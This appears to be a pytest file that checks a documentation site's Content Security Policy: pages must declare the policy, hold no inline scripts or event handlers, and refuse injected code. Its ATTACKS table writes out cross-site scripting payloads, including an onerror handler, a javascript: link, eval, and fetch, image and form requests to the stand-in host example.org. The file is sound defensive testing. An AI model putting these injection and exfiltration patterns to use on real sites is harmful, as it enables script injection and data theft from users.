"""No page runs what is not a file of the site; the other tests here load every page under it."""

import pytest

pytestmark = pytest.mark.site
DATA = {"application/json", "application/vnd.jupyter.widget-state+json"}
DATA |= {"application/vnd.jupyter.widget-view+json", "math/tex"}
ATTACKS = {
    "a script between the lines": "const s = document.createElement('script');"
    "s.textContent = 'window.hacked = 1'; document.head.append(s);",
    "a handler in an attribute": "document.body.insertAdjacentHTML('beforeend',"
    " '<img src=x onerror=\"window.hacked=1\">');",
    "a link that runs": "const a = document.createElement('a');"
    "a.href = 'javascript:window.hacked=1'; document.body.append(a); a.click();",
    "text that is run": "try { eval('window.hacked=1'); } catch {}",
    "a script of another host": "const s = document.createElement('script');"
    "s.src = 'https://example.org/x.js'; document.head.append(s);",
    "a request to another host": "fetch('https://example.org/?all').catch(() => {});",
    "a picture of another host": "new Image().src = 'https://example.org/?all';",
    "a frame": "const f = document.createElement('iframe');"
    "f.src = 'data:text/html,<script>parent.hacked=1</scr' + 'ipt>'; document.body.append(f);",
    "another base for all links": "const b = document.createElement('base');"
    "b.href = 'https://example.org/'; document.head.append(b);",
    "a form that leaves": "const f = document.createElement('form');"
    "f.action = 'https://example.org/'; document.body.append(f); f.submit();",
}


def test_every_page_says_it_before_anything_runs(site, path, policy):
    text = (site / path).read_text("utf-8")
    assert text.count(policy.meta()) == 1
    assert text.index(policy.meta()) < text.index("<script")


def test_no_page_holds_a_script_itself(path, parse, tally):
    page = parse(path)
    inline = [s for s in page.select("script:not([src])") if s.get("type") not in DATA]
    assert inline == []
    handlers = [(t.name, key) for t in page.find_all(True) for key in t.attrs if key[:2] == "on"]
    assert handlers == []
    assert page.select('[href^="javascript:" i], [src^="javascript:" i]') == []
    tally("site: page searched for scripts of its own")


@pytest.mark.parametrize("scheme", ["http", "file"])
@pytest.mark.parametrize("attack", ATTACKS)
def test_what_slips_in_does_not_run(load, attack, scheme, tally):
    page, _ = load("book/glossary.html", scheme)
    address = page.url
    page.evaluate(
        """attack => {
             window.refused = new Promise((resolve) => {
               document.addEventListener(
                 "securitypolicyviolation", (event) => resolve(event.effectiveDirective));
               setTimeout(resolve, 20_000, ""); });
             const own = document.createElement("script");
             own.src = URL.createObjectURL(new Blob([attack], { type: "text/javascript" }));
             document.head.append(own); }""",
        ATTACKS[attack],
    )
    assert page.evaluate("window.refused")
    assert page.evaluate("window.hacked") is None
    assert page.url == address
    page.close()
    tally("site: attack inside a page, refused by its policy")
